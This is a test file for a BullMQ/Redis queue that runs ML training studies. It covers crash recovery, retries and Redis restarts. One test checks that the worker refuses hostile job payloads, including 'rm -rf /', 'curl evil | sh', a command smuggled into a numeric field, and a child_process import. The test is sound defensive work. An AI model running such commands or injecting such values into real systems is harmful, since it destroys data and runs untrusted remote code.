/**
 * Studies through a BullMQ queue on a real redis-server (started by the tests on a free
 * port of 127.0.0.1, each with its own folder): the same study folder as a local study,
 * and the faults: a worker killed mid-run, the coordinator killed and started again, a run
 * that always fails, Redis killed and restarted from its append-only file, hostile job
 * payloads. Without redis-server the tests are skipped with the reason (and fail under CI).
 * The figures of the faults (which run was killed, when, who finished it, how long the
 * recovery took) are printed on the console.
 */
import { type ChildProcess, spawn } from "node:child_process";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { Queue } from "bullmq";
import { Redis } from "ioredis";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createQueueExecutor, DEFAULT_QUEUE_NAME, PRESETS, QUEUE_JOB_FORMAT, readRunRecord, runJobId, runStudy, type StudyDefinition, type StudyOutcome } from "../src/node.js";
import { CI, redisMissing, startRedis, type TestRedis } from "./redis-server.js";

const here = dirname(fileURLToPath(import.meta.url));
const WORKER = join(here, "fixtures", "queue-worker.mjs");
const COORDINATOR = join(here, "fixtures", "queue-coordinator.mjs");
const missing = redisMissing();
if (missing !== null && CI) throw new Error(`queue tests: ${missing}`);
if (missing !== null) console.warn(`queue tests: skipped, ${missing}`);

const tiny: StudyDefinition = {
  ...PRESETS.quick,
  dists: ["constant", "lognormal"],
  seeds: [0, 1],
  epochs: 1,
  trainSize: 100,
  testSize: 100,
  set: { ...PRESETS.quick.set, arch: "784,16,10", t1: "15", t2: "5", backend: "cpu" },
};
/** Runs of a few seconds, to be killed in the middle. */
const slow: StudyDefinition = { ...tiny, dists: ["constant"], seeds: [0, 1], epochs: 2, trainSize: 1000, set: { ...tiny.set, t1: "60", t2: "15" } };

const tmp = mkdtempSync(join(tmpdir(), "hts-queue-test-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

interface Proc {
  readonly proc: ChildProcess;
  /** Everything it printed so far. */
  text(): string;
  /** Resolves when its output matches `re` (the match), rejects after `ms`. */
  waitFor(re: RegExp, ms?: number): Promise<RegExpMatchArray>;
  readonly exited: Promise<number | null>;
}

const procs: ChildProcess[] = [];
// No worker of one test takes the jobs of the next.
afterEach(() => {
  for (const p of procs) if (p.exitCode === null && p.signalCode === null) p.kill("SIGKILL");
});

function start(script: string, args: readonly string[]): Proc {
  const proc = spawn(process.execPath, [script, ...args], { stdio: ["ignore", "pipe", "pipe"] });
  procs.push(proc);
  let out = "";
  const waiters: (() => void)[] = [];
  const onData = (s: string) => {
    out += s;
    for (const w of [...waiters]) w();
  };
  proc.stdout?.setEncoding("utf8").on("data", onData);
  proc.stderr?.setEncoding("utf8").on("data", onData);
  const exited = new Promise<number | null>((r) => proc.once("exit", (code) => r(code)));
  return {
    proc,
    text: () => out,
    exited,
    waitFor: (re, ms = 60_000) =>
      new Promise((resolveWait, reject) => {
        const check = () => {
          const m = out.match(re);
          if (!m) return false;
          clearTimeout(timer);
          waiters.splice(waiters.indexOf(check as () => void), 1);
          resolveWait(m);
          return true;
        };
        const timer = setTimeout(() => reject(new Error(`no ${re} within ${ms} ms in:\n${out}`)), ms);
        waiters.push(check as () => void);
        check();
      }),
  };
}

const startWorker = (url: string, name: string, jobs: number, ...flags: string[]) => start(WORKER, [url, name, String(jobs), ...flags]);

/** A queue study in this process (the workers are other processes). */
function queueStudy(url: string, dir: string, def: StudyDefinition, extra: { signal?: AbortSignal; onEnd?: (id: string, at: number) => void } = {}): Promise<StudyOutcome> {
  const executor = createQueueExecutor({ url, dir, attempts: 3, backoffMs: 200, reconcileIntervalMs: 500, messagePrefix: "hts train: " });
  return runStudy(def, {
    dir,
    executor,
    messagePrefix: "hts train: ",
    ...(extra.signal ? { signal: extra.signal } : {}),
    onEvent: (id, e) => {
      if (e.kind === "end") extra.onEnd?.(id, Date.now());
    },
  });
}

/** Times each job id was taken by a worker, from the workers' logs. */
function taken(...logs: string[]): Map<string, number> {
  const n = new Map<string, number>();
  for (const log of logs) for (const m of log.matchAll(/took (run-[0-9a-f]+)/g)) n.set(m[1] as string, (n.get(m[1] as string) ?? 0) + 1);
  return n;
}

async function until(what: string, check: () => Promise<boolean>, ms = 60_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** A test's own connection, without "Unhandled error event" lines while redis-server restarts. */
function quiet(r: Redis): Redis {
  r.on("error", () => {});
  return r;
}

/** metrics.jsonl without its timing fields. */
function metricsWithoutTiming(file: string): unknown[] {
  return readFileSync(file, "utf8")
    .split("\n")
    .filter((l) => l.trim() !== "")
    .map((l) => {
      const { trainSeconds: _a, evalSeconds: _b, samplesPerSecond: _c, ...rest } = JSON.parse(l) as Record<string, unknown>;
      return rest;
    });
}

/** summary.json rows without the time per run. */
function rowsWithoutTiming(dir: string): unknown[] {
  const summary = JSON.parse(readFileSync(join(dir, "summary.json"), "utf8")) as { rows: Record<string, unknown>[] };
  return summary.rows.map(({ secondsMean: _s, secondsTotal: _t, ...r }) => r);
}

describe.skipIf(missing !== null)("a study through a BullMQ queue on redis-server", () => {
  let redis: TestRedis;
  beforeAll(async () => {
    redis = await startRedis();
  });
  afterAll(async () => {
    await redis?.dispose();
  });

  it("writes the study folder of a local study (same rows, byte-identical model files); a rerun adds nothing", async () => {
    const local = join(tmp, "local");
    const viaQueue = join(tmp, "queue");
    const localOutcome = await runStudy(tiny, { dir: local, jobs: 2 });
    expect(localOutcome.status).toBe("ok");
    const w1 = startWorker(redis.url, "alpha", 1, "--exit-when-idle");
    const w2 = startWorker(redis.url, "beta", 1, "--exit-when-idle");
    const outcome = await queueStudy(redis.url, viaQueue, tiny);
    expect(outcome).toMatchObject({ status: "ok", ranNow: 4, skipped: 0, crashed: 0 });
    expect(rowsWithoutTiming(viaQueue)).toEqual(rowsWithoutTiming(local));
    for (const run of outcome.plan) {
      const a = join(local, run.folder);
      const b = join(viaQueue, run.folder);
      expect(readdirSync(b).sort()).toEqual(readdirSync(a).sort());
      expect(readFileSync(join(b, "model.safetensors")).equals(readFileSync(join(a, "model.safetensors")))).toBe(true);
      expect(readFileSync(join(b, "config.json"), "utf8")).toBe(readFileSync(join(a, "config.json"), "utf8"));
      expect(metricsWithoutTiming(join(b, "metrics.jsonl"))).toEqual(metricsWithoutTiming(join(a, "metrics.jsonl")));
      const rec = readRunRecord(b) as unknown as { queue: { worker: string } };
      expect(["alpha", "beta"]).toContain(rec.queue.worker);
    }
    for (const f of ["summary.md", "summary.csv", "figures/accuracy.svg", "figures/stability.svg", "figures/dt-histograms.svg"]) expect(existsSync(join(viaQueue, f)), f).toBe(true);
    await Promise.all([w1.exited, w2.exited]);
    expect([...taken(w1.text(), w2.text()).values()]).toEqual([1, 1, 1, 1]);
    console.log(`queue study: 4 runs, ${taken(w1.text()).size} by alpha, ${taken(w2.text()).size} by beta`);

    // A rerun skips the finished runs; two coordinators adding the same runs make one job each.
    const again = await queueStudy(redis.url, viaQueue, tiny);
    expect(again).toMatchObject({ status: "ok", ranNow: 0, skipped: 4 });
    const queue = new Queue(DEFAULT_QUEUE_NAME, { connection: quiet(new Redis(redis.url, { maxRetriesPerRequest: null })) });
    try {
      await queue.obliterate({ force: true });
      const stop = new AbortController();
      const c1 = queueStudy(redis.url, join(tmp, "twin-1"), tiny, { signal: stop.signal });
      const c2 = queueStudy(redis.url, join(tmp, "twin-2"), tiny, { signal: stop.signal });
      await until("8 additions", async () => (await queue.getJobCounts("waiting")).waiting >= 4);
      await new Promise((r) => setTimeout(r, 500));
      expect((await queue.getJobCounts("waiting")).waiting).toBe(4);
      // Another setting is another job.
      const changed = { ...tiny, set: { ...tiny.set, t1: "16" } };
      const c3 = queueStudy(redis.url, join(tmp, "twin-3"), changed, { signal: stop.signal });
      await until("the changed runs", async () => (await queue.getJobCounts("waiting")).waiting >= 8);
      stop.abort();
      expect((await Promise.all([c1, c2, c3])).map((o) => o.status)).toEqual(["cancelled", "cancelled", "cancelled"]);
      await queue.obliterate({ force: true });
    } finally {
      await queue.close();
    }
  });

  it("a worker killed with SIGKILL in the middle of a run: another worker finishes it, recorded once", async () => {
    const dir = join(tmp, "killed-worker");
    const victim = startWorker(redis.url, "victim", 2);
    const ends: string[] = [];
    const study = queueStudy(redis.url, dir, slow, { onEnd: (id) => ends.push(id) });
    await victim.waitFor(/took run-[0-9a-f]+[\s\S]*took run-[0-9a-f]+/);
    await new Promise((r) => setTimeout(r, 300));
    const killedAt = Date.now();
    const running = [...victim.text().matchAll(/took (run-[0-9a-f]+) \(([^)]+)\)/g)].map((m) => m[2]);
    expect(victim.text()).not.toMatch(/finished run-/);
    victim.proc.kill("SIGKILL");
    await victim.exited;
    const rescuer = startWorker(redis.url, "rescuer", 2, "--exit-when-idle");
    const endTimes = new Map<string, number>();
    const outcome = await study;
    for (const run of outcome.plan) endTimes.set(run.id, (readRunRecord(join(dir, run.folder)) as unknown as { queue: { endedAt: number } }).queue.endedAt);
    expect(outcome).toMatchObject({ status: "ok", ranNow: 2, crashed: 0 });
    expect(ends.sort()).toEqual(outcome.plan.map((p) => p.id).sort());
    for (const run of outcome.plan) {
      const rec = readRunRecord(join(dir, run.folder)) as unknown as { status: string; queue: { worker: string; attempts: number } };
      expect(rec.status).toBe("ok");
      expect(rec.queue.worker).toBe("rescuer");
    }
    await rescuer.exited;
    expect([...taken(rescuer.text()).values()]).toEqual([1, 1]);
    const recovery = Math.max(...endTimes.values()) - killedAt;
    console.log(
      `killed worker: SIGKILL of "victim" at ${new Date(killedAt).toISOString()}, 0.3 s after it took ${running.join(" and ")}; "rescuer" finished both, the last ${(recovery / 1000).toFixed(1)} s after the kill (lock 2 s, stall check every 1 s, run about ${(outcome.rows[0]?.secondsMean ?? 0).toFixed(1)} s)`,
    );
  });

  it("the coordinator killed with SIGKILL and started again: finished runs are kept, nothing runs twice", async () => {
    const dir = join(tmp, "killed-coordinator");
    // Other seeds than the first test's: its runs are on the queue already (completed jobs are kept).
    const def = { ...tiny, seeds: [5, 6] };
    const worker = startWorker(redis.url, "steady", 1);
    const first = start(COORDINATOR, [redis.url, dir, JSON.stringify(def)]);
    await first.waitFor(/"end":/);
    const killedAt = Date.now();
    first.proc.kill("SIGKILL");
    await first.exited;
    const recordedBefore = readdirSync(join(dir, "runs"), { recursive: true }).filter((p) => String(p).endsWith("run.json")).length;
    const ends: number[] = [];
    const second = await queueStudy(redis.url, dir, def, { onEnd: (_id, at) => ends.push(at) });
    expect(second.status).toBe("ok");
    expect(second.skipped).toBe(recordedBefore);
    expect(second.skipped + second.ranNow).toBe(4);
    worker.proc.kill("SIGINT");
    await worker.exited;
    expect([...taken(worker.text()).values()]).toEqual([1, 1, 1, 1]);
    console.log(
      `killed coordinator: ${recordedBefore} run(s) recorded before the kill at ${new Date(killedAt).toISOString()}; the second coordinator collected ${second.ranNow} (run while it was down or after) in ${((Math.max(...ends, killedAt) - killedAt) / 1000).toFixed(1)} s; every run taken once`,
    );
  });

  it("Ctrl-C lets the running run finish; a second Ctrl-C puts it back on the queue at once", async () => {
    const queue = new Queue(DEFAULT_QUEUE_NAME, { connection: quiet(new Redis(redis.url, { maxRetriesPerRequest: null })) });
    try {
      const def = { ...slow, seeds: [7] };
      // Once: the worker stops taking runs, finishes this one and exits.
      const stop = new AbortController();
      const patient = startWorker(redis.url, "patient", 1);
      const first = queueStudy(redis.url, join(tmp, "ctrl-c-1"), def, { signal: stop.signal });
      const [, jobId] = (await patient.waitFor(/took (run-[0-9a-f]+)/)) as unknown as [string, string];
      patient.proc.kill("SIGINT");
      expect(await patient.exited).toBe(0);
      expect(patient.text()).toMatch(/stopped after 1 job/);
      expect(await queue.getJobState(jobId)).toBe("completed");
      stop.abort();
      await first;
      // Twice: the run goes back to waiting, well before its lock (2 s) would expire.
      const def2 = { ...slow, seeds: [8] };
      const stop2 = new AbortController();
      const hasty = startWorker(redis.url, "hasty", 1);
      const second = queueStudy(redis.url, join(tmp, "ctrl-c-2"), def2, { signal: stop2.signal });
      const [, jobId2] = (await hasty.waitFor(/took (run-[0-9a-f]+)/)) as unknown as [string, string];
      hasty.proc.kill("SIGINT");
      await new Promise((r) => setTimeout(r, 100));
      const sentAt = Date.now();
      hasty.proc.kill("SIGINT");
      const states: string[] = [];
      await until(
        "the run back on the queue",
        async () => {
          states.push(await queue.getJobState(jobId2));
          return states.at(-1) === "waiting";
        },
        10_000,
      ).catch((e: Error) => {
        throw new Error(`${e.message} (states: ${[...new Set(states)].join(", ")}; worker: ${hasty.text()})`);
      });
      const backAfter = Date.now() - sentAt;
      expect(backAfter).toBeLessThan(2000);
      expect(await hasty.exited).toBe(0);
      const exitedAfter = Date.now() - sentAt;
      stop2.abort();
      await second;
      console.log(`Ctrl-C twice: the run was back on the queue ${backAfter} ms after the second SIGINT, the worker gone after ${exitedAfter} ms`);
      await queue.obliterate({ force: true });
    } finally {
      await queue.close();
    }
  });

  it("a run that fails every time is retried 3 times with backoff, then recorded as crashed with its error", async () => {
    const dir = join(tmp, "failing");
    const worker = startWorker(redis.url, "careful", 1, "--exit-when-idle");
    const def = { ...tiny, dists: ["constant"] as StudyDefinition["dists"], seeds: [0], dataset: "idx:/nonexistent" };
    const outcome = await queueStudy(redis.url, dir, def);
    expect(outcome).toMatchObject({ status: "crashed", crashed: 1 });
    const rec = readRunRecord(join(dir, outcome.plan[0]?.folder as string)) as unknown as { status: string; message: string; queue: { attempts: number } };
    expect(rec.status).toBe("crashed");
    expect(rec.message).toMatch(/^hts train: error \[HTS_DATA_NOT_FOUND\]: .*nonexistent/);
    expect(rec.queue.attempts).toBe(3);
    await worker.exited;
    const fails = [...worker.text().matchAll(/failed run-/g)].length;
    expect(fails).toBe(3);
    expect(readFileSync(join(dir, outcome.plan[0]?.folder as string, "train.log"), "utf8")).toContain("3 attempt(s)");
    console.log(`failing run: ${fails} attempts (backoff 200 ms, doubled), then recorded as crashed: ${rec.message}`);
  });

  it("hostile or malformed job payloads are refused by the worker with a logged error, failed without retries", async () => {
    const connection = quiet(new Redis(redis.url, { maxRetriesPerRequest: null }));
    const queue = new Queue(DEFAULT_QUEUE_NAME, { connection });
    try {
      const spec = { ...(JSON.parse(JSON.stringify((await import("../src/node.js")).planStudy(tiny)[0]?.spec)) as Record<string, unknown>) };
      const good = { format: QUEUE_JOB_FORMAT, task: { id: "x/seed-0", spec }, weights: false, prefix: "" };
      const hostile: Record<string, unknown> = {
        "not-a-run": { cmd: "rm -rf /" },
        "extra-field": { ...good, shell: "curl evil | sh" },
        "bad-spec": { ...good, task: { id: "x", spec: { ...spec, lr: "0.1; rm -rf /" } } },
        "unknown-spec-field": { ...good, task: { id: "x", spec: { ...spec, exec: "node -e 1" } } },
        "import-not-allowed": { ...good, task: { id: "x", spec: { ...spec, imports: ["node:child_process"] } } },
      };
      for (const [id, data] of Object.entries(hostile)) await queue.add("run", data, { jobId: id, attempts: 5, backoff: { type: "fixed", delay: 10 } });
      const worker = startWorker(redis.url, "guard", 1, "--exit-when-idle");
      await worker.exited;
      for (const id of Object.keys(hostile)) {
        const job = await queue.getJob(id);
        expect(await job?.getState(), id).toBe("failed");
        expect(job?.attemptsMade, id).toBe(1);
        expect(job?.failedReason, id).toMatch(/payload refused/);
        expect(worker.text(), id).toMatch(new RegExp(`refused ${id}[^\\n]*payload refused`));
      }
      expect(worker.text()).toMatch(/module "node:child_process" is not allowed on this worker/);
      expect(worker.text()).toMatch(/refused bad-spec[^\n]*lr/);
      console.log(`hostile payloads: ${Object.keys(hostile).length} refused, each failed after 1 attempt:\n${worker.text().match(/^.*refused.*$/gm)?.join("\n")}`);

      // With --allow-import the module is imported before the spec is checked, so its components can be named.
      await queue.obliterate({ force: true });
      const tenth = join(here, "fixtures", "register-tenth.mjs");
      const withTenth = { ...good, task: { id: "tenth/seed-0", spec: { ...spec, imports: [tenth], dt: { ...(spec.dt as object), dist: "tenth" } } } };
      const jobId = runJobId(withTenth as never);
      await queue.add("run", withTenth, { jobId });
      const allowed = startWorker(redis.url, "open", 1, "--exit-when-idle", "--allow-import", tenth);
      await allowed.exited;
      expect(await (await queue.getJob(jobId))?.getState()).toBe("completed");
      await queue.obliterate({ force: true });
    } finally {
      await queue.close();
      connection.disconnect();
    }
  });
});

describe.skipIf(missing !== null)("Redis killed and restarted with persistence (AOF, appendfsync always)", () => {
  let redis: TestRedis;
  beforeAll(async () => {
    redis = await startRedis({ aof: true });
  });
  afterAll(async () => {
    await redis?.dispose();
  });

  it("loses no finished result: runs finished while no coordinator waited are collected after the restart, none run twice", async () => {
    const dir = join(tmp, "redis-restart");
    const connection = quiet(new Redis(redis.url, { maxRetriesPerRequest: null }));
    const queue = new Queue(DEFAULT_QUEUE_NAME, { connection });
    // Enqueue, then leave: nobody collects while the worker finishes the runs.
    const stop = new AbortController();
    const first = queueStudy(redis.url, dir, tiny, { signal: stop.signal });
    await until("the jobs", async () => (await queue.getJobCounts("waiting")).waiting === 4);
    stop.abort();
    expect((await first).status).toBe("cancelled");
    const worker = startWorker(redis.url, "survivor", 2);
    await until("4 completed jobs", async () => (await queue.getJobCounts("completed")).completed === 4);
    await queue.close();
    connection.disconnect();
    const killedAt = Date.now();
    await redis.stop("SIGKILL");
    await redis.start();
    const restartedAt = Date.now();
    const second = await queueStudy(redis.url, dir, tiny);
    expect(second).toMatchObject({ status: "ok", ranNow: 4, skipped: 0 });
    worker.proc.kill("SIGINT");
    await worker.exited;
    expect([...taken(worker.text()).values()]).toEqual([1, 1, 1, 1]);
    console.log(`redis restart: 4 results finished before a SIGKILL of redis-server, restarted from the AOF in ${restartedAt - killedAt} ms, all 4 collected, none run again`);
  });
});
